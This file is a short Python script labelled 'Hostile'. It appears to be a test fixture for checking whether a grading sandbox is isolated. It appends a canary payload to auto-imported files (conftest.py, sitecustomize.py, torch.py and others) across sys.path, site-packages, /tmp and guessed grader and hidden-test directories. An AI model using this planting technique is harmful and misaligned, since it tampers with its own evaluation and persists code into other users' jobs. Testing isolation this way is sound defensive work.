# Hostile: plant code where the grader (or the next job) might import it.
import os as _os
import sys as _sys
import sysconfig as _sysconfig

_PAYLOAD = "import pathlib\npathlib.Path('__HOSTILE_CANARY__.pwned').write_text('planted')\n"
_places = set(_sys.path) | {_os.getcwd(), _os.path.dirname(__file__), "/tmp", "/var/tmp"}
_places |= {_sysconfig.get_path(n) for n in ("purelib", "platlib", "stdlib")}
for _entry in list(_sys.path):
    if _entry.endswith("grader"):
        _root = _os.path.dirname(_entry)
        _places |= {_root, _os.path.join(_root, "grader")}
        _places.add(_os.path.join(_root, "solutions", "pytorch_basics", "hidden_tests"))
_places.add("/work/main")
_places.add("/work/main/grader")
_places.add("/work/main/solutions/pytorch_basics/hidden_tests")
for _place in _places:
    for _name in ("conftest.py", "sitecustomize.py", "probes.py", "plugin.py", "torch.py"):
        try:
            with open(_os.path.join(_place, _name), "a") as _handle:
                _handle.write(_PAYLOAD)
        except OSError:
            pass
